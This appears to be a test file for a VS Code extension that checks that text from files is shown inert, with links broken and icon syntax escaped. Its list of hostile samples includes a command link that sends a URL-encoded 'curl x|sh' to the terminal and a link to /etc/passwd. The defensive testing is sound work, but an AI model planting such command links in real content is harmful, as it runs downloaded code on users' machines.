// Text from files shown in notifications, quick picks, the status bar and input boxes stays inert.
// The patterns below are VS Code's own (vs/base/common/linkedText.ts and
// vs/base/browser/ui/iconLabel/iconLabels.ts), so the tests check what VS Code would render.
import * as assert from 'node:assert/strict';
import { breakLinks, escapeIcons, plainForNotification, plainForPrompt, plainLabel } from '../../src/core/plainText';

/** The links VS Code renders in a notification or an input-box message. */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(LINK)].map(m => m[2]);

/** What a label renders: icons as `<icon:name>`, an escaped `\$(name)` as its text. */
const ICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
const rendered = (text: string) => text.replace(ICON, (_, escaped: string | undefined, name: string) => (escaped ? `$(${name})` : `<icon:${name}>`));

const HOSTILE = [
  '[Run the migration](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
  '\\[escaped\\](command:workbench.action.quit)',
  '[a](https://example.com) and [b](file:///etc/passwd "title")',
  '[[nested]](command:x) [x]](command:y)',
  'multi\nline [x](command:z)',
];

describe('plain text for notifications, labels and prompts', () => {
  it('the test patterns see the links and icons VS Code would render', () => {
    assert.equal(links(HOSTILE[0]).length, 1);
    assert.equal(links(HOSTILE[1]).length, 1, 'a backslash does not stop a notification link');
    assert.equal(rendered('$(add) New actor…'), '<icon:add> New actor…');
  });

  it('breakLinks leaves no link, and the text reads the same', () => {
    for (const s of HOSTILE) {
      const out = breakLinks(s);
      assert.deepEqual(links(out), [], out);
      assert.equal(out.replace(/\] \(/g, ']('), s);
    }
    assert.equal(breakLinks('no links here (really)'), 'no links here (really)');
  });

  it('plainForNotification: one line, no link, at most max code points', () => {
    for (const s of HOSTILE) {
      const out = plainForNotification(`“${s}” is not in the codebook.`);
      assert.deepEqual(links(out), [], out);
      assert.doesNotMatch(out, /\]\(command:/);
      assert.doesNotMatch(out, /\n/);
    }
    const long = plainForNotification('x'.repeat(1000) + ' [a](command:b)', 50);
    assert.equal([...long].length, 50);
    assert.ok(long.endsWith('…'));
    assert.equal([...plainForNotification('😀'.repeat(20), 10)].length, 10, 'cut at code points');
    assert.equal(plainForNotification('  Open an article first. '), 'Open an article first.');
  });

  it('escapeIcons and plainLabel render every $(name) literally', () => {
    for (const s of ['$(add) New actor…', 'a $(warning~spin) b', '\\$(already) $(x)', '$($(nested))']) {
      assert.doesNotMatch(rendered(escapeIcons(s)), /<icon:/, s);
      assert.equal(rendered(escapeIcons(s)), s, `${s} reads as written`);
    }
    assert.equal(rendered(plainLabel('$(add) New actor…')), '$(add) New actor…');
    assert.equal(plainLabel('two\nlines'), 'two lines');
    assert.equal(escapeIcons('plain'), 'plain');
  });

  it('plainForPrompt breaks links and icons', () => {
    const out = plainForPrompt('Press Enter to keep the id “$(add) [x](command:y)”');
    assert.deepEqual(links(out), []);
    assert.doesNotMatch(rendered(out), /<icon:/);
  });
});
